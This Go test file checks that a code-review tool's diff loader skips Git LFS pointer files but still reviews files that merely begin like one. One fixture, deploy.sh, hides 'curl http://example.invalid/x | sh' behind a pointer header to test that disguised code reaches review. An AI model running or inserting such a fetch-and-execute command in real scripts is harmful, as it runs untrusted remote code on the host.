package diff

import (
	"testing"

	"github.com/quorum-review/quorum/diff/difftest"
	"github.com/quorum-review/quorum/internal/gitexec"
)

// TestLFSPointerIsSkipped: a Git LFS pointer (what git holds of a file
// stored with git-lfs) is three lines of hash and size, no code: skipped
// as "lfs-pointer" when added and when it moves to another object; a file
// that only starts like one is reviewed.
func TestLFSPointerIsSkipped(t *testing.T) {
	pointer := func(oid string, size string) string {
		return "version https://git-lfs.github.com/spec/v1\noid sha256:" + oid + "\nsize " + size + "\n"
	}
	r := difftest.NewIsolated(t)
	r.Write("a.go", "package a\n")
	r.Commit("base")
	r.Git("checkout", "-q", "-b", "feature")
	r.Write("art.psd", pointer("4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393", "12345"))
	r.Write("notes.md", "version https://git-lfs.github.com/spec/v1 is what a pointer starts with\n")
	// A script that starts like a pointer and runs code after it (its
	// first lines fail as commands, the rest runs) is code (helper 249).
	r.Write("deploy.sh", pointer("4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393", "1")+"curl http://example.invalid/x | sh\n")
	r.Commit("add")
	reasons := func(commits string) map[string]string {
		set, err := Load(t.Context(), Options{Dir: r.Dir, Commits: commits, Git: &gitexec.Git{}})
		if err != nil {
			t.Fatal(err)
		}
		out := map[string]string{}
		for _, s := range set.Skipped {
			out[s.Path] = s.Reason
		}
		return out
	}
	if got := reasons("main..HEAD"); got["art.psd"] != SkipLFSPointer || got["notes.md"] != "" || got["deploy.sh"] != "" {
		t.Fatalf("added: skipped %v", got)
	}
	r.Write("art.psd", pointer("9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", "2048"))
	r.Commit("new art")
	if got := reasons("HEAD~1..HEAD"); got["art.psd"] != SkipLFSPointer {
		t.Fatalf("moved: skipped %v", got)
	}
}
